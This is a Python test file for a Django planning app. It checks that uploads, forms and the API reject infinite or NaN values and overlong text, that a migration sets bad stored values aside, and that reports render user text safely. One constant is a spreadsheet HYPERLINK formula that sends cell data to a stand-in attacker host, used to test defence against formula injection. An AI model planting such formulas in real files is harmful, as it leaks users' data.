"""inf, Infinity, 1e999, NaN and -inf are refused by the observation upload, the entry form and the API
(naming row and field, in Chinese); stored ones are set aside by migration 0006 (value NULL, the
original in the note and the audit trail, never deleted); the report's 来源/备注 are never formulas."""

from __future__ import annotations

import importlib
import io
import json
from datetime import date

import openpyxl
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile

from kechuang.plans.models import Observation

NON_FINITE = ["inf", "Infinity", "1e999", "NaN", "-inf"]
PLAN = "dongguan-2026-2030"
API = f"/api/plans/{PLAN}/observations"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize("text", NON_FINITE)
def test_the_upload_refuses_a_non_finite_value(plan, client_for, text):
    before = Observation.objects.count()
    csv = (
        f"指标,地区,年份,数值,来源\nrd_intensity,东莞市,2025,4.1,快报\nrd_intensity,东莞市,2024,{text},快报\n"
    )
    f = SimpleUploadedFile("obs.csv", csv.encode(), content_type="text/csv")
    html = client_for("bureau").post("/plans/entry/upload/", {"file": f}).content.decode()
    assert "文件未导入" in html and "不是有限的数字" in html and '<td class="num">3</td>' in html
    assert Observation.objects.count() == before


@pytest.mark.parametrize("text", NON_FINITE)
def test_the_api_refuses_a_non_finite_value(plan, client_for, text):
    before = Observation.objects.count()
    row = {"indicator": "rd_intensity", "region": "东莞市", "year": 2025, "source": "快报"}
    # As a JSON number (Python's json writes inf and nan as Infinity and NaN) and as text.
    for value in (float(text), text):
        body = json.dumps({"rows": [{**row, "value": 4.0}, {**row, "year": 2024, "value": value}]})
        response = client_for("reporter").post(API, body, content_type="application/json")
        assert response.status_code == 400, response.content
        [error] = response.json()["errors"]
        assert (error["index"], error["row"], error["column"]) == (1, 3, "数值")
        assert "不是有限的数字" in error["message"]
    assert Observation.objects.count() == before


@pytest.mark.parametrize("text", NON_FINITE)
def test_the_entry_form_refuses_a_non_finite_value(plan, client_for, text):
    before = Observation.objects.count()
    post = {"indicator": "rd_intensity", "region": "441900", "year": 2025, "value": text, "source": "快报"}
    response = client_for("bureau").post("/plans/entry/", post)
    assert response.status_code == 200 and "请输入数字" in response.content.decode()
    assert Observation.objects.count() == before


@pytest.mark.parametrize("field", ["source", "note"])
def test_the_entry_form_refuses_overlong_text(plan, client_for, field):
    before = Observation.objects.count()
    post = {"indicator": "rd_intensity", "region": "441900", "year": 2025, "value": "4", "source": "快报"}
    response = client_for("bureau").post("/plans/entry/", {**post, field: "长" * 501})
    assert response.status_code == 200 and "500" in response.content.decode()
    assert Observation.objects.count() == before


def test_the_api_refuses_an_overlong_note(plan, client_for):
    row = {"indicator": "rd_intensity", "region": "东莞市", "year": 2025, "value": 4, "source": "快报"}
    body = json.dumps({"rows": [{**row, "note": "长" * 501}]})
    response = client_for("reporter").post(API, body, content_type="application/json")
    assert response.status_code == 400
    [error] = response.json()["errors"]
    assert error["column"] == "备注" and "超过 500 个字符" in error["message"] and len(error["value"]) == 51


def stored(plan, value, revision=1, is_latest=True, year=2024):
    from kechuang.plans.models import Indicator

    ind = Indicator.objects.get(plan=plan, code="rd_intensity")
    return Observation.objects.create(
        indicator=ind, region_code="441900", year=year, value=value, unit=ind.unit, source="快报",
        note="原备注", revision=revision, is_latest=is_latest, entered_by_name="reporter",
    )  # fmt: skip


def test_the_migration_sets_stored_non_finite_values_aside(plan, personas):
    from kechuang.audit.models import ObjectChange
    from kechuang.plans import observations

    Observation.objects.filter(
        indicator__code="rd_intensity", region_code="441900", year__in=[2024, 2023]
    ).delete()
    first = stored(plan, 3.9, revision=1, is_latest=False)
    bad = stored(plan, float("inf"), revision=2)
    minus = stored(plan, float("-inf"), year=2023)
    good = stored(plan, 1e308, year=2022 + 100)  # large but finite: untouched
    migration = importlib.import_module("kechuang.plans.migrations.0006_observation_nonfinite_data")
    migration.repair(apps, None)

    for obs, text in ((bad, "inf"), (minus, "-inf")):
        obs.refresh_from_db()
        assert obs.value is None and not obs.is_latest  # kept, never deleted
        assert obs.note.startswith("原备注；") and f"原填报数值「{text}」不是有限数字" in obs.note
        change = ObjectChange.objects.get(object_type="plans.observation", object_id=str(obs.pk))
        assert change.user_name == "migration:plans.0006" and change.before["value"] == text
        assert change.after == {"value": None, "note": obs.note, "is_latest": False}
    first.refresh_from_db()
    good.refresh_from_db()
    assert first.value == 3.9 and not first.is_latest and good.value == 1e308

    # The report renders again (it was a 500), and the value can be entered anew as the next revision.
    from kechuang.plans.report.build import build_report
    from kechuang.plans.report.render import render

    assert render(build_report(plan, 2027, today=date(2027, 6, 30)), "xlsx")
    result = observations.enter_value(plan, personas["bureau"], first.indicator, "441900", 2024, 4.0, "快报")
    assert (result.created, result.revised) == (0, 1)
    latest = Observation.objects.get(
        indicator=first.indicator, region_code="441900", year=2024, is_latest=True
    )
    assert (latest.value, latest.revision) == (4.0, 3)
    result = observations.enter_value(plan, personas["bureau"], first.indicator, "441900", 2023, 2.5, "快报")
    assert (result.created, result.revised) == (0, 1)


def test_the_api_lists_a_set_aside_revision_as_null(plan, client_for):
    obs = stored(plan, None, revision=9, is_latest=False, year=2021)
    rows = client_for("admin").get(API, {"revisions": "all", "year": 2021}).json()
    assert {"id": obs.pk, "value": None} in [{"id": r["id"], "value": r["value"]} for r in rows]


def test_the_report_writes_sources_and_notes_as_text(plan, personas):
    from kechuang.plans import observations
    from kechuang.plans.models import Indicator
    from kechuang.plans.report.build import build_report
    from kechuang.plans.report.render import render

    ind = Indicator.objects.get(plan=plan, code="rd_intensity")
    observations.enter_value(plan, personas["bureau"], ind, "441900", 2025, 4.2, EVIL, note="@SUM(A1)")
    book = openpyxl.load_workbook(
        io.BytesIO(render(build_report(plan, 2027, today=date(2027, 6, 30)), "xlsx"))
    )
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value in (EVIL, "@SUM(A1)")]
    assert {c.value for c in hostile} == {EVIL, "@SUM(A1)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
